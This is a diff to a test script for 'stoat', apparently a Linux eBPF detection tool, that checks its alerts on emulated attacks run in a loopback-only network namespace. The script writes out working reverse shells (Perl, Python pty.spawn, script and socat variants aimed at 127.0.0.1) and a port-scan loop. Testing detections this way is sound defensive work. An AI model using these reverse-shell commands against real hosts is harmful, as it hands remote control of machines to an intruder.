@@ -6,7 +6,13 @@
 # over 200 ports, the bash loop of /dev/tcp connects that forks a subshell per
 # port (it once raised 1,025 keyword alerts, one per fork), and reverse shells
 # started from a $(...) that execs twice and from a ( ... ) subshell, whose
-# ancestry must name what each process became and go through the subshells.
+# ancestry must name what each process became and go through the subshells;
+# a pipeline whose two command lines a keyword rule matches (one alert per
+# side, none on the link); reverse shells behind a pseudo-terminal (Python's
+# pty.spawn, socat exec with pty started before it connects, script fed by a
+# socket), each one critical alert, and terminals with no socket behind them
+# (script, pty.spawn, a connected program running a command in the terminal
+# it inherited), none.
 # Everything runs in a network namespace made here (loopback only, no route
 # out) against listeners and files made here. The watch loads stoat's rules
 # and SigmaHQ's Linux rules (their keyword rules are what the forks flooded).
@@ -28,8 +34,9 @@ if [ "$(id -u)" -ne 0 ]; then
     echo "skip: the live behaviours need root (eBPF, network namespaces)"
     finish
 fi
-command -v python3 >/dev/null && command -v perl >/dev/null && command -v nc >/dev/null ||
-    { bad "python3, perl and nc are needed (scripts/install-deps.sh installs them)"; finish; }
+command -v python3 >/dev/null && command -v perl >/dev/null && command -v nc >/dev/null &&
+    command -v socat >/dev/null && command -v script >/dev/null ||
+    { bad "python3, perl, nc, socat and script are needed (scripts/install-deps.sh installs them)"; finish; }
 # the counts compare stoat's rules with SigmaHQ's (the /dev/tcp keyword flood
 # is a SigmaHQ rule's): without the shared data, skip as the SigmaHQ part does
 [ -d "$SIGMA" ] || { echo "SKIP the live behaviours: SigmaHQ's Linux rules not found at $SIGMA (they need the shared data next to the repository)"; finish; }
@@ -78,6 +85,44 @@ connect(S, sockaddr_in($ARGV[0], inet_aton("127.0.0.1"))) or die;
 open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
 exec("/bin/sh -i");
 EOF
+# a shell on a terminal that Python makes and relays to the socket
+cat >"$T/rs_pty.py" <<'EOF'
+import os, pty, socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+pty.spawn("/bin/sh")
+EOF
+# script started with the socket as its stdio: its shell is on script's terminal
+cat >"$T/rs_script.py" <<'EOF'
+import os, socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+os.execvp("script", ["script", "-qc", "/bin/sh", "/dev/null"])
+EOF
+# benign: a program with a connection open runs a shell command in the
+# terminal it was started in (its own, inherited: no relay)
+cat >"$T/conn_sh.py" <<'EOF'
+import socket, subprocess, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+subprocess.call(["/bin/sh", "-c", "true"])
+s.close()
+EOF
+# a keyword rule over both command lines of a pipeline
+cat >"$T/kw.yml" <<'EOF'
+title: Test Keyword In A Pipeline's Command Lines
+id: 6f1c8a5e-2b7d-4c1e-9a55-0d3e8b7f1a21
+status: test
+description: behaviours.sh's own rule, a keyword that both sides of its pipelines name
+logsource:
+    product: linux
+detection:
+    keywords:
+        - 'stoatpipekw'
+    condition: keywords
+level: medium
+EOF
 cat >"$T/scan.py" <<'EOF'
 import socket
 for p in range(20000, 20200):
@@ -95,10 +140,11 @@ emulate() {
     shift
     mkdir -p "$out"
     chown "$(id -u stoat 2>/dev/null || id -u nobody)" "$out"
-    "$STOAT" watch --no-default-rules -r rules -r "$SIGMA" --format jsonl -o "$out/alerts.jsonl" \
+    "$STOAT" watch --no-default-rules -r rules -r "$SIGMA" -r "$T/kw.yml" --format jsonl -o "$out/alerts.jsonl" \
         --record "$out/record.jsonl" 2>"$out/stderr" &
     WPID=$!
-    for _ in $(seq 1 150); do
+    # verifying the kernel programs takes 15 s and more on a loaded machine: wait up to 60 s
+    for _ in $(seq 1 600); do
         grep -q "mode:" "$out/stderr" 2>/dev/null && break
         sleep 0.1
     done
@@ -233,5 +279,80 @@ check("one port-scan alert for the loop", n(SCAN) == 1, by.get(SCAN))
 forks = [a for a in ours if a["event"].get("EventID") == "1001"]
 check("no alert on a fork event (%d)" % len(forks), not forks, [a["rule"]["title"] for a in forks[:3]])
 check("at most 10 alerts in all for 1,024 connects (%d)" % len(ours), len(ours) <= 10, sorted(by))
+'
+
+# 5. pipelines: a keyword that the reader's command line names (the reader
+# exec'd first: the writer's exec brings the link, a pipeline event) and one
+# that the writer's names (the reader's exec names its writer): one alert on
+# each process, none on a link, which once repeated the command lines. The
+# side that must come second waits on a fifo with a builtin (no exec).
+mkfifo "$T/delay"
+emulate pipeline_keywords "(exec 3<>$T/delay; read -t 0.5 -u 3 x; exec /bin/echo x) | sh -c 'read l; : stoatpipekw-reader'
+/bin/echo stoatpipekw-writer | (exec 3<>$T/delay; read -t 0.5 -u 3 x; exec cat >/dev/null)"
+run_check pipeline_keywords '
+K = "Test Keyword In A Pipeline\x27s Command Lines"
+ev = [a["event"] for a in by.get(K, [])]
+def on(word):
+    return [e for e in ev if word in e.get("CommandLine", "")]
+rec = [json.loads(l) for l in open(os.path.join(T, name, "record.jsonl"))]
+check("the reader sh exec-ed first: its link came as a pipeline event (1004) from echo",
+      [r for r in rec if r.get("EventID") == "1004" and r.get("StdinFromImage", "").endswith("/echo")
+       and r.get("Image", "").endswith("sh")], [r for r in rec if r.get("EventID") == "1004"][:3])
+check("the writer echo exec-ed first: the reader cat exec names it",
+      [r for r in rec if r.get("EventID") == "1" and r.get("Image", "").endswith("/cat")
+       and r.get("StdinFromImage", "").endswith("/echo")])
+check("the reader keyword: one alert, on the reader sh (exec)",
+      [e.get("EventID") for e in on("stoatpipekw-reader")] == ["1"],
+      [(e.get("EventID"), e.get("Image"), e.get("CommandLine")) for e in ev])
+check("the writer keyword: one alert, on the writer echo (exec)",
+      [e.get("EventID") for e in on("stoatpipekw-writer")] == ["1"] and on("stoatpipekw-writer")[0]["Image"].endswith("/echo"),
+      [(e.get("EventID"), e.get("Image"), e.get("CommandLine")) for e in ev])
+check("two alerts in all for the rule, none on a link (%d)" % len(ev),
+      len(ev) == 2 and not [e for e in ev if e.get("EventID") == "1004" or "StdinFromImage" in e],
+      [(e.get("EventID"), e.get("Image"), e.get("StdinFromImage")) for e in ev])
+'
+
+# 6. reverse shells behind a pseudo-terminal: the shell's stdio is the
+# terminal, the socket is its maker's; one critical alert on the shell each
+listen 14447
+emulate revshell_pty_python "python3 $T/rs_pty.py 14447"
+run_check revshell_pty_python '
+a = one(RS)
+check("one reverse-shell alert on the /bin/sh that pty.spawn started, critical, relayed by python to :14447",
+      a and a["level"] == "critical" and a["event"].get("EventID") == "1005" and a["event"]["Image"].endswith("sh")
+      and "python" in a["event"].get("RelayImage", "") and a["event"].get("DestinationPort") == "14447",
+      by.get(RS))
+check("its ancestry: /bin/sh < python3 rs_pty.py", a and cmds(a)[:2] == ["/bin/sh", "python3 %s/rs_pty.py 14447" % T],
+      cmds(a))
+'
+listen 14448
+emulate revshell_pty_socat "socat exec:'bash -li',pty,stderr,setsid tcp:127.0.0.1:14448"
+run_check revshell_pty_socat '
+a = one(RS)
+check("one reverse-shell alert on bash -li, started by socat before it connected, critical",
+      a and a["level"] == "critical" and a["event"].get("EventID") == "1005" and a["event"]["Image"].endswith("/bash")
+      and a["event"].get("RelayImage", "").endswith("/socat") and a["event"].get("DestinationPort") == "14448"
+      and a["event"].get("Initiated") == "true", by.get(RS))
+check("the relayed-terminal event repeats no command line (a keyword rule on socat matches socat alone)",
+      not [x for x in ours if x["event"].get("EventID") == "1005" and "CommandLine" in x["event"]],
+      [x["rule"]["title"] for x in ours if x["event"].get("EventID") == "1005"])
+'
+listen 14449
+emulate revshell_pty_script "python3 $T/rs_script.py 14449"
+run_check revshell_pty_script '
+a = one(RS)
+check("one reverse-shell alert on the shell script -qc started on its terminal, critical",
+      a and a["level"] == "critical" and a["event"].get("EventID") == "1005"
+      and a["event"].get("RelayImage", "").endswith("/script") and a["event"].get("DestinationPort") == "14449",
+      by.get(RS))
+'
+listen 14450
+emulate pty_benign "script -qc true /dev/null </dev/null
+python3 -c 'import pty; pty.spawn([\"/bin/true\"])' </dev/null
+script -qc 'python3 $T/conn_sh.py 14450' /dev/null </dev/null"
+run_check pty_benign '
+check("no reverse-shell alert for terminals with no socket behind them (%d)" % n(RS), n(RS) == 0, by.get(RS))
+check("no relayed-terminal alert at all", not [a for a in ours if a["event"].get("EventID") == "1005"],
+      [a["rule"]["title"] for a in ours if a["event"].get("EventID") == "1005"])
 '
 finish
